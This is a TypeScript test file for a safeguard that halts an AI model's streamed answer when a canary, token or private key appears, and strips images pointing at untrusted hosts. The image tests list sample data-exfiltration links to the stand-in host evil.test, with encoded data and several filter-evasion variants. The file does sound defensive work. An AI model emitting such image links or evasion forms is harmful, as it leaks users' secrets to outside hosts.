/** What an answer may not give away: at any cut of it nothing of a hit goes out, and nothing else is held for long. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { StreamEvent } from '../../src/core/stream-event.ts';
import { readCanaries } from '../../src/safeguards/canaries.ts';
import { inspectAnswer, type Place } from '../../src/safeguards/inspect-answer.ts';
import { githubTokens } from '../support/signals/values.ts';

const canary = 'heron-7f3a91c2';
const key = 'ghp_0123456789';

type Kind = 'text' | 'input';

function inspect(pieces: readonly string[], kind: Kind = 'text', request = '') {
  const hits: string[] = [];
  const places = new Set<Place>();
  const inspector = inspectAnswer({
    canaries: [canary],
    linkHosts: ['img.corp.test'],
    isKnown: (text) => request.includes(text),
    onHit: (code, detail, place) => {
      hits.push(`${code} ${detail}`);
      places.add(place);
    },
  });
  const block =
    kind === 'input'
      ? ({ type: 'tool-call', id: 'c', name: 'f', input: '', kind: 'function' } as const)
      : ({ type: 'text', text: '' } as const);
  const events: StreamEvent[] = [
    { type: 'block-start', index: 0, block },
    ...pieces.map((text): StreamEvent => ({ type: 'block-delta', index: 0, delta: { kind, text } })),
    { type: 'block-end', index: 0 },
  ];
  const out = events.flatMap((event) => inspector.push(event));
  const text = out
    .map((event) => (event.type === 'block-delta' && 'text' in event.delta ? event.delta.text : ''))
    .join('');
  return { text, hits, places, last: out.at(-1) };
}

/** `text` in two pieces, at every place; and unit by unit. */
function everyCut(text: string): string[][] {
  const halves = [...text].map((_, at) => [text.slice(0, at), text.slice(at)]);
  return [...halves, [...text]];
}

const ended = { type: 'error', fault: { kind: 'safeguard' } };
const pem = `-----BEGIN RSA PRIVATE KEY-----\n${'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n'.repeat(9)}-----END RSA PRIVATE KEY-----`;

describe('an answer ends', () => {
  test.each(['text', 'input'] as const)('at a canary in %s, wherever it is cut', (kind) => {
    for (const pieces of everyCut(`My orders say: Heron-7F3A91C2, and more.`)) {
      const { text, hits, places, last } = inspect(pieces, kind, canary);
      expect(last).toMatchObject(ended);
      expect([...places]).toEqual([kind === 'input' ? 'arguments' : 'text']);
      expect('My orders say: ').toContain(text);
      expect(hits).toEqual(['canary 1']);
    }
  });

  test('at a key that the request did not bring, wherever it is cut', () => {
    fc.assert(
      fc.property(githubTokens, fc.nat(60), (token, at) => {
        const whole = `Use ${token} now.`;
        const pieces = [whole.slice(0, at), whole.slice(at)];
        const { text, hits, last } = inspect(pieces);
        expect(last).toMatchObject(ended);
        expect('Use ').toContain(text);
        expect(hits).toEqual(['secret github-token']);
        expect(inspect(pieces, 'text', token)).toMatchObject({ text: whole, hits: [] });
      }),
    );
  });

  test('at a private key over many lines, none of which goes out', () => {
    for (const pieces of everyCut(`Here:\n${pem}\nKeep it.`)) {
      const { text, last, hits } = inspect(pieces);
      expect(last).toMatchObject(ended);
      expect('Here:\n').toContain(text);
      expect(hits).toEqual(['secret private-key']);
    }
  });

  test('at a canary in a word that never ends', () => {
    const { text, last } = inspect([...'x'.repeat(40_000)].concat([canary, 'y'.repeat(9)]));
    expect(last).toMatchObject(ended);
    expect(text).toMatch(/^x+$/);
  });
});

describe('images', () => {
  const data = 'https://evil.test/p?q=c2VjcmV0';
  test.each([
    [`Look ![the chart](${data}) here`, 'Look the chart [image of evil.test left out] here'],
    [`Look ![](<${data}> "title") here`, 'Look [image of evil.test left out] here'],
    [`Look ![a][x] here\n\n[x]: ${data}\n`, `Look [a][x] here\n\n[x]: ${data}\n`],
    [`Look ![x] here\n\n[x]: ${data}\n`, `Look [x] here\n\n[x]: ${data}\n`],
    ['Look ![a](https://evil.test/a(b)?q=c2VjcmV0) here', expect.stringMatching(/^Look a \[image of/)],
    ['Look ![a](<https://evil.test/a)?q=c2VjcmV0>) here', expect.stringMatching(/^Look a \[image of/)],
    ['Look ![a](<https://img.corp.test)@evil.test/?q=c2VjcmV0>) here', expect.stringMatching(/^Look a \[/)],
    [`Look <img alt=">" src="${data}"> here`, 'Look [image of evil.test left out] here'],
    [`a x![0] here\n\n[0]: ${data}\n`, `a x![0] here\n\n[0] : ${data}\n`],
    [`[k]: ${data}\n\na x![a][K] here`, `[k]: ${data}\n\na x[a][K] here`],
    [`Look <img alt="a" src="${data}"> here`, 'Look [image of evil.test left out] here'],
    [`Look <IMG SRC=//evil.test/a/long/way/to/carry/data> here`, 'Look [image of evil.test left out] here'],
    [`Look ![a](https:\\\\evil.test/p?q=1) here`, 'Look a [image of evil.test left out] here'],
    [`Look ![a](//c2VjcmV0LXRoYXQtaXMtbG9uZw.and.more.evil.test/) here`, expect.stringContaining('left out')],
    [`Look ![a](https&colon;//evil.test/p?q=1) here`, 'Look a [image of unknown left out] here'],
    [`Look ![a](https://me:c2VjcmV0@evil.test/) here`, 'Look a [image of evil.test left out] here'],
    [`Look ![a](https://img.corp.test.evil.test/?q=1)`, expect.stringContaining('left out')],
  ])('%s is left out, wherever it is cut', (whole, told) => {
    for (const pieces of everyCut(whole)) {
      const { text, hits } = inspect(pieces);
      expect(text).toEqual(told);
      expect(hits).toEqual(['link 1']);
    }
  });

  test.each([
    `[a link](${data}) to follow`,
    '![logo](https://a.test/logo.png) ![own](/static/a/very/long/path?with=query) ![d](data:image/png;base64,AAAA)',
    '![c](https://img.corp.test/c?data=all) ![d](https://eu.img.corp.test/c?data=all)',
    'if (a < b && !c[0]) return a <= img; x![y] = m![0][1] + f()![a.b];\n[2]: https://a.test/?q=1',
    '<b>bold</b> <imgs> 1 <',
  ])('%s stays', (whole) => {
    for (const pieces of everyCut(whole)) expect(inspect(pieces)).toMatchObject({ text: whole, hits: [] });
  });

  test('stay where the request holds their very address', () => {
    const whole = `![a](${data})`;
    expect(inspect([whole], 'text', `see ${data}`)).toMatchObject({ text: whole, hits: [] });
    expect(inspect([whole.replace('?q=', '?q=x')], 'text', `see ${data}`).hits).toEqual(['link 1']);
  });

  test('that never end are no images', () => {
    expect(inspect([`![a](https://evil.test/${'x y'.repeat(4000)}`, ') b']).text).not.toContain('![');
    expect(inspect([`<img src="https://evil.test/${'x y'.repeat(4000)}`, '"> b']).text).not.toContain('<img');
    expect(inspect(['![a](https://evil.test/?q=1']).text).not.toContain('![');
  });

  test('in arguments of tools are left', () => {
    const whole = `{"a":"![a](${data})"}`;
    expect(inspect([whole], 'input').text).toBe(whole);
  });
});

describe('anything else', () => {
  test.each([
    `const password = "hunter22!x"; const token = "${'a1B2'.repeat(6)}";`,
    'postgres://app:s3cret-Pw@db.internal/app',
    'AKIAIOSFODNN7EXAMPLE',
    `-----BEGIN CERTIFICATE-----\n${'MIIC'.repeat(40)}\n-----END CERTIFICATE-----\n`,
    key,
  ])('%s passes', (whole) => {
    for (const pieces of everyCut(whole)) expect(inspect(pieces)).toMatchObject({ text: whole, hits: [] });
  });

  test('comes out as it was, whatever it is and however it is cut', () => {
    const part = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 12 }),
      fc.constantFrom('!', '[', ']', '(', ')', '<', '>', ' ', '-----BEGIN', '-----END', '<img', '日本語'),
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 30 }), (pieces) => {
        const whole = pieces.join('');
        const { text, hits } = inspect(pieces);
        if (hits.length === 0) expect(text).toBe(whole);
        expect(inspect([whole]).text).toBe(text);
      }),
    );
  });

  test('goes out word by word', () => {
    const inspector = inspectAnswer({
      canaries: [],
      linkHosts: [],
      isKnown: () => false,
      onHit: () => undefined,
    });
    const push = (text: string) =>
      inspector.push({ type: 'block-delta', index: 0, delta: { kind: 'text', text } });
    inspector.push({ type: 'block-start', index: 0, block: { type: 'text', text: '' } });
    expect(push('Hello wor')).toMatchObject([{ delta: { text: 'Hello ' } }]);
    expect(push('ld, 日本')).toMatchObject([{ delta: { text: 'world, 日本' } }]);
  });
});

describe('canaries', () => {
  test('stand one a line', () => {
    expect(readCanaries(`\n ${canary} \r\nother-canary,third-canary\n`)).toEqual([
      canary,
      'other-canary',
      'third-canary',
    ]);
    expect(readCanaries(undefined)).toEqual([]);
  });

  test.each(['short', 'with a space', 'quo"te-and-more', 'x'.repeat(257)])(
    '%s is refused, unquoted',
    (line) => {
      expect(() => readCanaries(`${canary}\n${line}`)).toThrow(/entry 2: 8 to 256/);
    },
  );
});
